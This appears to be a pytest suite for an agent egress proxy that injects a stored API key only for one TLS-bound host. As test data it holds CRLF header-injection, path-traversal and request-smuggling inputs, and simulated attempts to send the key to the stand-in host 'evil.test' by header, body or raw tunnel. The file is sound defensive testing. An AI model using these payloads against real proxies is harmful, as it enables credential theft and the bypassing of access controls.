"""An agent with a route uses a key that it never has: it arrives at the bound host, over TLS, and nowhere else."""

import asyncio
import gzip
import json
import ssl
from base64 import b64encode
from collections.abc import AsyncGenerator, Callable
from contextlib import asynccontextmanager
from pathlib import Path
from urllib.parse import parse_qs, quote

import pytest
from msgspec.structs import replace

from agent_os.abi.errors import EINVAL, EIO, EPERM, AgentOSError
from agent_os.kernel.authority.bindings import bind
from agent_os.kernel.authority.secrets import Safe
from agent_os.kernel.egress.routes import Misuse, Route, Routes, Use, environment, routes_of
from kernel.egress.certificates import Authority
from kernel.egress.proxies import OK, QUICK, Handler, Proxy, Server, proxy, server

KEY = b"sk-canary-Zq9/+4xW=7"
HOST = "api.test"
SPELLINGS = {
    "raw": KEY,
    "base64": b64encode(KEY),
    "base64 of a pair": b64encode(b"u:" + KEY),
    "base64 of another pair": b64encode(b"me:" + KEY + b"!"),
    "hex": KEY.hex().encode(),
    "URL": quote(KEY, safe="").encode(),
    "JSON": KEY.replace(b"/", b"\\/"),
}


class Desk:
    """A safe, an agent's routes, what was recorded of them, and the proxy that serves them."""

    def __init__(self, safe: Safe, tls: ssl.SSLContext) -> None:
        self.safe, self._tls = safe, tls
        self.uses: list[Use] = []
        self.misuses: list[Misuse] = []
        self.refusal: AgentOSError | None = None
        self.meanwhile: Callable[[], object] = lambda: None  # happens between the decision and the dialling
        self.proxy: Proxy
        self.port = 0  # of the server that the route leads to

    async def used(self, use: Use) -> None:
        if self.refusal:
            raise self.refusal
        self.uses.append(use)
        self.meanwhile()

    def routes(self, *routes: Route) -> Routes:
        return Routes("a1", routes, self.safe, used=self.used, misused=self.misuses.append, tls=self._tls)

    async def ask(self, path: str = "/v1/models", *headers: str, method: str = "GET", body: bytes = b"") -> bytes:
        """A request to the door, as a client with the placeholder makes it."""
        usual = ["Host: 127.0.0.1:3128", "Authorization: Bearer placeholder", "Connection: close"]
        if body:
            usual.append(f"Content-Length: {len(body)}")
        lines = [f"{method} /_api/key{path} HTTP/1.1", *usual, *headers, "", ""]
        return await self.proxy.send("\r\n".join(lines).encode("latin-1") + body)


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Authority:
    return Authority.new(tmp_path_factory.mktemp("authority"))


@pytest.fixture
def safe(tmp_path: Path) -> Safe:
    safe = Safe.of_home(tmp_path, {})
    safe.add("key", KEY)
    return safe


@asynccontextmanager
async def desk(
    safe: Safe, authority: Authority, handler: Handler | bytes = OK, *, names: str = HOST, bound: bool = True
) -> AsyncGenerator[tuple[Desk, Server]]:
    """A provider with TLS on loopback, and a door that leads to it."""
    async with server(handler, authority.server(names)) as provider:
        here = Desk(safe, authority.client())
        here.port = provider.port
        if bound:
            safe.bind(bind("key", [f"{HOST}:{provider.port}"]))
        doors = here.routes(Route("key", HOST, provider.port))
        grants = f"127.0.0.1:{provider.port}"
        async with proxy(grants, names={HOST: ["127.0.0.1"]}, routed=[HOST], doors=doors) as here.proxy:
            yield here, provider


def run(work: Callable[[], object]) -> None:
    asyncio.run(work())  # type: ignore[arg-type]


def lines_of(head: bytes) -> dict[str, str]:
    pairs = [line.split(": ", 1) for line in head.decode("latin-1").split("\r\n")[1:] if ": " in line]
    return {name.lower(): value for name, value in pairs}


def nothing_of_the_key(data: object) -> None:
    told = data if isinstance(data, bytes) else repr(data).encode()
    for name, spelled in SPELLINGS.items():
        assert spelled not in told, name


def test_the_key_arrives_at_the_bound_host_in_place_of_the_placeholder(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            answer = await here.ask("/v1/models?limit=2", "X-Own: kept", "x-api-key: placeholder", "Cookie: a=b")
            assert answer.endswith(b"hi")
            assert answer.startswith(b"HTTP/1.1 200 ")
            sent = lines_of(provider.received)
            assert provider.received.startswith(b"GET /v1/models?limit=2 HTTP/1.1\r\n")
            assert sent["authorization"] == f"Bearer {KEY.decode()}"
            assert sent["host"] == f"{HOST}:{provider.port}"
            assert (sent["x-own"], sent["accept-encoding"]) == ("kept", "identity")
            assert not {"x-api-key", "cookie"} & set(sent)
            assert b"placeholder" not in provider.received
            record = await here.proxy.last()
            assert (record.protocol, record.host, record.port) == ("route", HOST, provider.port)
            assert (record.verdict, record.code) == ("allow", "net.allow")
            (use,) = here.uses
            expected = Use("a1", "key", 1, HOST, provider.port, "GET", "/v1/models", "/v1/models?limit=2")
            assert replace(use, headers=(), body=None) == expected
            nothing_of_the_key((here.proxy.records, here.uses, answer))
            assert here.misuses == []

    run(work)


def test_an_own_key_of_the_agent_does_not_get_through(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            lines = "GET /_api/key/ HTTP/1.1\r\nHost: localhost:3128\r\nAuthorization: Bearer sk-attacker\r\n"
            await here.proxy.send(f"{lines}api-key: sk-attacker\r\nConnection: close\r\n\r\n".encode())
            assert b"attacker" not in provider.received
            assert KEY in provider.received

    run(work)


async def _read_request(reader: asyncio.StreamReader) -> tuple[bytes, bytes]:
    head = await reader.readuntil(b"\r\n\r\n")
    length = int(lines_of(head).get("content-length", "0"))
    return head, await reader.readexactly(length)


def test_a_body_passes_as_it_is(safe: Safe, authority: Authority) -> None:
    seen: list[bytes] = []

    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        _, body = await _read_request(reader)
        seen.append(body)
        writer.write(OK)

    async def work() -> None:
        async with desk(safe, authority, handler) as (here, _):
            body = json.dumps({"model": "m", "messages": ["placeholder " * 5000]}).encode()
            assert (await here.ask("/v1/chat", method="POST", body=body)).endswith(b"hi")
            assert seen == [body]

    run(work)


def test_events_are_streamed_as_they_come(safe: Safe, authority: Authority) -> None:
    read = asyncio.Event()

    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        writer.write(b"11\r\ndata: first sk-\n\n\r\n")
        await writer.drain()
        await asyncio.wait_for(read.wait(), 10)  # the next one is sent only when the first was read
        writer.write(b"e\r\ndata: second\n\n\r\n0\r\n\r\n")
        await writer.drain()

    async def work() -> None:
        async with desk(safe, authority, handler) as (here, _):
            reader, writer = await asyncio.open_connection("127.0.0.1", here.proxy.port)
            writer.write(b"GET /_api/key/v1/stream HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n")
            async with asyncio.timeout(10):
                await reader.readuntil(b"data: first sk-\n\n")
                read.set()
                await reader.readuntil(b"data: second\n\n")
                await reader.readuntil(b"0\r\n\r\n")
            writer.close()

    run(work)


# The provider is asked to tell the key.


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_an_echo_is_masked_however_it_is_spelled_and_split(
    safe: Safe, authority: Authority, spelling: str, size: int
) -> None:
    text = b'{"your key": "' + SPELLINGS[spelling] + b'"}'

    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 401 Unauthorized\r\nTransfer-Encoding: chunked\r\n\r\n")
        for piece in (text[at : at + size] for at in range(0, len(text), size)):
            writer.write(b"%x\r\n%s\r\n" % (len(piece), piece))
            await writer.drain()
        writer.write(b"0\r\n\r\n")

    async def work() -> None:
        async with desk(safe, authority, handler) as (here, _):
            answer = await here.ask()
            pieces = answer.partition(b"\r\n\r\n")[2].split(b"\r\n")
            body = b"".join(piece for at, piece in enumerate(pieces) if at % 2)
            nothing_of_the_key(answer)
            nothing_of_the_key(body)
            assert body.startswith(b'{"your key": "')
            assert body.endswith(b'"}')
            assert len(body) == len(text)
            assert body.count(b"*") >= len(KEY)

    run(work)


def test_an_answer_that_ends_like_the_beginning_of_the_key_arrives_whole(safe: Safe, authority: Authority) -> None:
    text = b"is it " + KEY[:-1]

    async def work() -> None:
        reply = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(text) + text
        async with desk(safe, authority, reply) as (here, _):
            assert (await here.ask()).endswith(b"\r\n\r\n" + text)

    run(work)


def test_an_echo_in_the_head_is_masked(safe: Safe, authority: Authority) -> None:
    head = b"HTTP/1.1 401 no %s\r\nX-Echo: %s\r\nX-Pair: %s\r\nSet-Cookie: session=1\r\nContent-Length: 0\r\n\r\n"

    async def work() -> None:
        async with desk(safe, authority, head % (KEY, KEY, b64encode(b"me:" + KEY))) as (here, _):
            answer = await here.ask()
            assert b"\r\nx-echo: " + b"*" * len(KEY) in answer.lower()
            assert b"set-cookie" not in answer.lower()
            nothing_of_the_key(answer)

    run(work)


@pytest.mark.parametrize(
    "reply",
    [
        KEY + b" is your key\r\n\r\n",
        b"HTTP/1.1 200 OK\r\n" + KEY + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nContent-Length: " + KEY + b"\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + KEY + b"\r\n",
    ],
    ids=["status line", "header", "length", "chunk"],
)
def test_an_error_that_quotes_the_server_does_not_quote_the_key(safe: Safe, authority: Authority, reply: bytes) -> None:
    async def work() -> None:
        async with desk(safe, authority, reply) as (here, _):
            answer = await here.ask()
            record = await here.proxy.last()
            assert record.code == "net.broken"
            nothing_of_the_key((answer, record))

    run(work)


def test_an_answer_that_cannot_be_searched_does_not_pass(safe: Safe, authority: Authority) -> None:
    squeezed = gzip.compress(KEY * 3)
    head = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(squeezed)

    async def work() -> None:
        async with desk(safe, authority, head + squeezed) as (here, _):
            answer = await here.ask()
            assert answer.startswith(b"HTTP/1.1 502 ")
            assert b"compressed" in answer
            assert squeezed[10:] not in answer

    run(work)


def test_the_value_that_was_replaced_is_masked_too(safe: Safe, authority: Authority) -> None:
    new = b"sk-second-0987654321"
    both = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % (len(KEY) + len(new) + 1) + KEY + b" " + new

    async def work() -> None:
        async with desk(safe, authority, both) as (here, provider):
            safe.rotate("key", new)
            answer = await here.ask()
            assert new in provider.received
            assert KEY not in provider.received
            assert answer.endswith(b"*" * len(KEY) + b" " + b"*" * len(new))
            assert here.uses[-1].version == 2

    run(work)


# The agent tries to have it sent elsewhere.


@pytest.mark.parametrize(
    "path",
    [
        "/v1/%0d%0aHost:%20evil.test", "/v1/x%0Ay", "/a%00b", "/../secret", "/v1/../x", "/./x", "/%2e%2e/x",
        "//evil.test/x", "/a%2Fb", "/a%5cb", "/a\\b", "/v1//x",
    ],
)  # fmt: skip
def test_a_path_that_servers_read_differently_is_refused(safe: Safe, authority: Authority, path: str) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            answer = await here.ask(path)
            assert answer.startswith(b"HTTP/1.1 400 ")
            assert provider.connections == 0
            assert (await here.proxy.last()).verdict == "deny"

    run(work)


@pytest.mark.parametrize(
    "request_",
    [
        b"GET /_api/key/v1\r\nX-Evil: 1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /_api/key/v1\nX-Evil: 1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /_api/key/v1 HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"GET /_api/key/v1 HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"GET /_api/key/v1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nHost: evil.test\r\n\r\n",
        b"GET http://evil.test/_api/key/v1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET http://127.0.0.1:3128/_api/key/v1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET http://api.test/v1 HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"GET https://api.test/v1 HTTP/1.1\r\nHost: api.test\r\n\r\n",
        b"CONNECT api.test:443 HTTP/1.1\r\nHost: api.test:443\r\n\r\n",
        b"GET /_api/other/v1 HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /_api/key#x HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /_api/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /_API/key HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET /v1/models HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
        b"GET * HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n",
    ],
)
def test_no_other_way_to_write_a_request_reaches_the_key(safe: Safe, authority: Authority, request_: bytes) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            answer = await here.proxy.send(request_.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
            assert answer.split(b" ")[1] in (b"400", b"403", b"404")
            assert provider.connections == 0
            assert here.uses == []
            assert (await here.proxy.last()).verdict == "deny"

    run(work)


def test_a_redirect_is_handed_over_and_not_followed(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with server(OK, authority.server("evil.test")) as evil:
            to = f"https://evil.test:{evil.port}/take".encode()
            moved = b"HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: 0\r\n\r\n" % to
            async with desk(safe, authority, moved) as (here, provider):
                answer = await here.ask()
                assert b"location: " + to in answer.lower()
                assert (provider.connections, evil.connections) == (1, 0)
                assert here.proxy.asked == [HOST]
                nothing_of_the_key(answer)

    run(work)


@pytest.mark.parametrize(
    "header",
    [
        "Authorization: Bearer placeholder",
        "X-Api-Key: placeholder",
        "X-Anything: secret://key",
        "Authorization: Bearer secret://key",
        f"X-Anything: {KEY.decode()}",
        f"X-Anything: Basic {b64encode(b'me:' + KEY).decode()}",
        f"X-Anything: {KEY.hex()}",
    ],
)
def test_what_stands_for_the_key_goes_to_no_other_host(safe: Safe, authority: Authority, header: str) -> None:
    async def work() -> None:
        async with server(OK) as evil:
            here = Desk(safe, authority.client())
            doors = here.routes(Route("key", HOST, 443))
            grants = [f"evil.test:{evil.port}", f"127.0.0.1:{evil.port}"]
            async with proxy(*grants, names={"evil.test": ["127.0.0.1"]}, doors=doors) as other:
                answer = await other.get(f"http://evil.test:{evil.port}/take", header)
                assert answer.startswith(b"HTTP/1.1 403 ")
                assert (evil.connections, other.asked) == (0, [])
                assert [(one.agent, one.where) for one in here.misuses] == [("a1", f"evil.test:{evil.port}")]
                record = await other.last()
                assert (record.verdict, record.code) == ("deny", "secret.misuse")
                nothing_of_the_key((answer, record, here.misuses))
                fine = await other.get(f"http://evil.test:{evil.port}/placeholder", "X-Note: a placeholder")
                assert fine.endswith(b"hi")

    run(work)


def test_a_value_in_a_body_or_a_plain_tunnel_is_stopped(safe: Safe, authority: Authority) -> None:
    async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        taken.append(await reader.read(65536))
        taken.append(await reader.read(65536))

    taken: list[bytes] = []

    async def work() -> None:
        async with server(take) as evil:
            here = Desk(safe, authority.client())
            grants = [f"evil.test:{evil.port}", f"127.0.0.1:{evil.port}"]
            async with proxy(*grants, names={"evil.test": ["127.0.0.1"]}, doors=here.routes()) as other:
                body = b"x" * 100 + KEY
                length = f"Content-Length: {len(body)}"
                await other.get(f"http://evil.test:{evil.port}/", length, method="POST", body=body)
                assert (await other.last(1)).code == "secret.misuse"
                _, reader, writer = await other.connect(f"evil.test:{evil.port}")
                writer.write(b"TAKE " + b64encode(KEY))
                assert await asyncio.wait_for(reader.read(), 10) == b""
                assert (await other.last(2)).code == "secret.misuse"
            assert [one.what for one in here.misuses] == ["value", "value"]
            nothing_of_the_key(b"".join(taken))

    run(work)


def test_nobody_is_told_no_before_it_is_held(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        held: asyncio.Future[None] = asyncio.get_running_loop().create_future()
        here = Desk(safe, authority.client())
        doors = Routes("a1", [Route("key", HOST, 443)], safe, used=here.used, misused=lambda _: held)
        async with proxy("evil.test:80", names={"evil.test": ["127.0.0.1"]}, doors=doors) as other:
            answer = asyncio.create_task(other.get("http://evil.test/take", "Authorization: secret://key"))
            assert (await other.last()).code == "secret.misuse"
            assert await asyncio.wait((answer,), timeout=0.3) == (set(), {answer})
            held.set_result(None)
            assert (await answer).startswith(b"HTTP/1.1 403 ")

    run(work)


def test_the_placeholder_of_another_secret_is_refused_at_the_door(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        safe.add("other", b"another-value-123456")
        async with desk(safe, authority) as (here, provider):
            answer = await here.ask("/v1", "X-Token: secret://other")
            assert answer.startswith(b"HTTP/1.1 403 ")
            assert provider.connections == 0
            assert [(one.secret, one.what) for one in here.misuses] == [("other", "placeholder")]

    run(work)


# The other end is not who it should be.


def test_a_certificate_for_another_name_gets_nothing(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority, names="evil.test") as (here, provider):
            answer = await here.ask()
            assert answer.startswith(b"HTTP/1.1 502 ")
            assert b"certificate" in answer
            assert provider.received == b""
            assert (await here.proxy.last()).code == "net.tls"

    run(work)


def test_an_unknown_authority_gets_nothing(safe: Safe, authority: Authority, tmp_path: Path) -> None:
    async def work() -> None:
        async with desk(safe, Authority.new(tmp_path / "other")) as (here, provider):
            doors = Routes("a1", [Route("key", HOST, provider.port)], safe, used=here.used, misused=here.misuses.append)
            names = {HOST: ["127.0.0.1"]}
            async with proxy(f"127.0.0.1:{provider.port}", names=names, doors=doors) as here.proxy:
                answer = await here.ask()  # with the trust of this process
                assert answer.startswith(b"HTTP/1.1 502 ")
            assert provider.received == b""

    run(work)


def test_a_server_without_tls_gets_nothing(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with server(OK) as plain:
            safe.bind(bind("key", [f"{HOST}:{plain.port}"]))
            here = Desk(safe, authority.client())
            doors, names = here.routes(Route("key", HOST, plain.port)), {HOST: ["127.0.0.1"]}
            async with proxy(f"127.0.0.1:{plain.port}", names=names, limits=QUICK, doors=doors) as here.proxy:
                answer = await here.ask()  # it waits for a request, we for its part of the handshake
                assert answer.startswith(b"HTTP/1.1 502 ")
                nothing_of_the_key(plain.received)

    run(work)


def test_a_route_opens_no_private_address(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            doors, names = here.routes(Route("key", HOST, provider.port)), {HOST: ["127.0.0.1"]}
            async with proxy(names=names, doors=doors) as here.proxy:
                answer = await here.ask()
                assert answer.startswith(b"HTTP/1.1 403 ")
                assert (await here.proxy.last()).code == "net.address"
            assert provider.connections == 0

    run(work)


# Bindings and records.


def test_without_a_binding_nothing_is_dialled(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            port = provider.port
            for binding, method, code in [
                (bind("key", [f"{HOST}:{port}"]), "DELETE", "secret.method"),
                (bind("key", [f"{HOST}:{port}"], agents=["a2"]), "GET", "secret.agent"),
            ]:
                safe.bind(binding)
                answer = await here.ask(method=method)
                told = json.loads(answer.partition(b"\r\n\r\n")[2])["error"]
                assert (answer[9:12], told["code"]) == (b"403", code)
            safe.unbind("key")
            assert b"secret.unbound" in await here.ask()
            safe.remove("key")
            assert b"secret.unknown" in await here.ask()
            assert (provider.connections, here.uses) == (0, [])

    run(work)


@pytest.mark.parametrize(
    ("refusal", "status"),
    [(EIO("journal", "the journal has failed"), b"500"), (EPERM("cap.missing", "nobody gave it to you"), b"403")],
    ids=["unrecorded", "forbidden"],
)
def test_what_is_not_recorded_or_not_permitted_is_not_dialled(
    safe: Safe, authority: Authority, refusal: AgentOSError, status: bytes
) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            here.refusal = refusal
            answer = await here.ask()
            assert answer[9:12] == status
            assert refusal.reason.encode() in answer
            assert (provider.connections, here.proxy.asked) == (0, [])

    run(work)


def test_a_binding_that_is_taken_away_while_we_dial_is_gone(safe: Safe, authority: Authority) -> None:
    async def work() -> None:
        async with desk(safe, authority) as (here, provider):
            here.meanwhile = lambda: safe.unbind("key")
            answer = await here.ask()
            assert answer.startswith(b"HTTP/1.1 403 ")
            assert b"secret.unbound" in answer
            assert provider.received == b""

    run(work)


@pytest.mark.parametrize("kind", ["application/json", "application/x-www-form-urlencoded"])
def test_a_field_is_set_in_the_body(safe: Safe, authority: Authority, kind: str) -> None:
    seen: list[tuple[bytes, bytes]] = []

    async def handler(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await _read_request(reader))
        writer.write(OK)

    async def work() -> None:
        async with desk(safe, authority, handler, bound=False) as (here, provider):
            safe.bind(bind("key", [f"{HOST}:{provider.port}"], field="api_key"))
            form = kind.endswith("urlencoded")
            body = b"api_key=placeholder&q=caf%C3%A9" if form else b'{"api_key": "placeholder", "q": "caf\\u00e9"}'
            answer = await here.ask("/search", f"Content-Type: {kind}", method="POST", body=body)
            assert answer.endswith(b"hi")
            head, sent = seen[0]
            assert KEY not in head
            assert b"placeholder" not in head + sent
            given = {k: v[0] for k, v in parse_qs(sent.decode()).items()} if form else json.loads(sent)
            assert given == {"api_key": KEY.decode(), "q": "café"}
            for bad in (b"[1]", b"{broken"):
                answer = await here.ask("/search", "Content-Type: application/json", method="POST", body=bad)
                assert answer[9:12] in (b"400", b"415")
            assert len(seen) == 1

    run(work)


def test_a_route_is_refused_before_its_first_request(safe: Safe) -> None:
    with pytest.raises(EPERM):
        routes_of(["key"], safe, "a1")
    safe.bind(bind("key", ["one.test"]))
    assert routes_of(["key"], safe, "a1") == (Route("key", "one.test", 443),)
    safe.bind(bind("key", ["two.test:8443", "*.three.test"], agents=["a1"]))
    with pytest.raises(EINVAL):
        routes_of(["key"], safe, "a1")
    assert routes_of(["key=two.test"], safe, "a1") == (Route("key", "two.test", 8443),)
    for words in (["key=three.test"], ["key=evil.test"], ["key=one.test", "key=two.test"], ["../key"]):
        with pytest.raises(EINVAL):
            routes_of(words, safe, "a1")
    with pytest.raises(EPERM):
        routes_of(["key=two.test"], safe, "a2")


def test_known_clients_are_told_by_their_own_variables() -> None:
    told = environment([Route("my-key", "api.openai.com", 443), Route("claude", "api.anthropic.com", 443)])
    assert told == {
        "AGENT_OS_ROUTE_MY_KEY": "http://127.0.0.1:3128/_api/my-key",
        "OPENAI_BASE_URL": "http://127.0.0.1:3128/_api/my-key/v1",
        "OPENAI_API_BASE": "http://127.0.0.1:3128/_api/my-key/v1",
        "OPENAI_API_KEY": "placeholder",
        "AGENT_OS_ROUTE_CLAUDE": "http://127.0.0.1:3128/_api/claude",
        "ANTHROPIC_BASE_URL": "http://127.0.0.1:3128/_api/claude",
        "ANTHROPIC_API_KEY": "placeholder",
    }
